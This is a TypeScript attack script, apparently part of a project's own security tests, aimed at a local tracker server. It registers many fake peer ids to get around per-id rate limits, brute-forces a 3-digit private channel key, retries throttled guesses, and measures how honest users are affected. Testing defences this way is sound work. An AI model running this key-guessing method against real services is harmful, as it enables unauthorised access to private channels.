/**
 * Guessing a private channel's key online: the victim creates #vault with a 3-digit key; the attacker (--from)
 * registers made-up ids and tries keys 000-999, a different id each time, so no per-id limit stops it.
 * Meanwhile an honest user on another address (--honest) creates a private channel every second. Prints
 * guesses a second, when the key was found, and the honest creations refused. docs/security/tracker.md.
 */

import { options, send } from './kit';

const USAGE = `Usage: npx ts-node scripts/attacks/tracker-keyguess.ts [--tracker http://127.0.0.1:8000] [--ids 100] [--seconds 40] [--parallel 4]
  [--from 127.0.0.2] [--honest 127.0.0.3] [--key 777]`;

const join = (id: string, channel: string, key: string) => JSON.stringify({ peer_id: id, channel, key });

async function register(base: string, ip: string, port: number, from: string): Promise<string | null> {
  const answer = await send(base, 'POST', '/submit-info/', JSON.stringify({ ip, port }), from);
  return answer.status === 200 ? `${ip}:${port}` : null;
}

async function main(): Promise<void> {
  const args = options(USAGE, {
    tracker: 'http://127.0.0.1:8000',
    ids: '100',
    seconds: '40',
    parallel: '4',
    from: '127.0.0.2',
    honest: '127.0.0.3',
    key: '777',
  });
  const base = args.tracker;
  const victim = (await register(base, '127.0.0.1', 39_001, '127.0.0.1'))!;
  console.log(`victim creates #vault: ${(await send(base, 'POST', '/add-list/', join(victim, 'vault', args.key))).status}`);
  const ids: string[] = [];
  for (let i = 0; i < Number(args.ids); i++) {
    const id = await register(base, '10.66.0.1', 20_000 + i, args.from);
    if (id) ids.push(id);
  }
  console.log(`attacker registered ${ids.length} of ${args.ids} made-up ids`);
  const stopAt = Date.now() + Number(args.seconds) * 1000;
  const honest = honestCreations(base, args.honest, stopAt);
  const started = Date.now();
  const retry: number[] = [];
  const tally = { guesses: 0, next: 0, found: undefined as string | undefined, statuses: {} as Record<number, number> };
  const worker = async () => {
    while ((tally.next < 1000 || retry.length > 0) && Date.now() < stopAt && !tally.found && ids.length > 0) {
      const guess = retry.pop() ?? tally.next++;
      const key = String(guess).padStart(3, '0');
      const answer = await send(base, 'POST', '/add-list/', join(ids[guess % ids.length], 'vault', key), args.from);
      tally.statuses[answer.status] = (tally.statuses[answer.status] ?? 0) + 1;
      if (answer.status === 429 || answer.status === 503)
        retry.push(guess); // the same guess again, later
      else tally.guesses++;
      if (answer.status === 200) tally.found = key;
    }
  };
  await Promise.all(Array.from({ length: Number(args.parallel) }, worker));
  const { guesses, found, statuses } = tally;
  const seconds = (Date.now() - started) / 1000;
  console.log(
    `attacker: ${guesses} guesses in ${seconds.toFixed(1)} s (${(guesses / seconds).toFixed(1)}/s); answers ${JSON.stringify(statuses)}`,
  );
  console.log(found ? `key FOUND: ${found} after ${seconds.toFixed(1)} s` : 'key not found');
  const { ok, refused, slowest } = await honest;
  console.log(`honest private creations from ${args.honest}: ${ok} ok, ${refused} refused, slowest ${slowest} ms`);
}

/** Creates (and leaves) a private channel every second from another address until `stopAt`. */
async function honestCreations(base: string, from: string, stopAt: number) {
  const ids: string[] = [];
  for (let port = 30_000; port < 30_004; port++) ids.push((await register(base, from, port, from)) ?? `${from}:${port}`);
  let ok = 0;
  let refused = 0;
  let slowest = 0;
  for (let i = 0; Date.now() < stopAt; i++) {
    const id = ids[i % ids.length];
    const answer = await send(base, 'POST', '/add-list/', join(id, `honest${i}`, 'k'), from);
    if (answer.status === 200) ok++;
    else refused++;
    slowest = Math.max(slowest, answer.ms);
    await send(base, 'POST', '/add-list/', JSON.stringify({ peer_id: id, leave: true, channel: `honest${i}` }), from);
    await new Promise((resolve) => setTimeout(resolve, 1000));
  }
  return { ok, refused, slowest };
}

main().catch((error) => {
  console.error(error);
  process.exit(1);
});
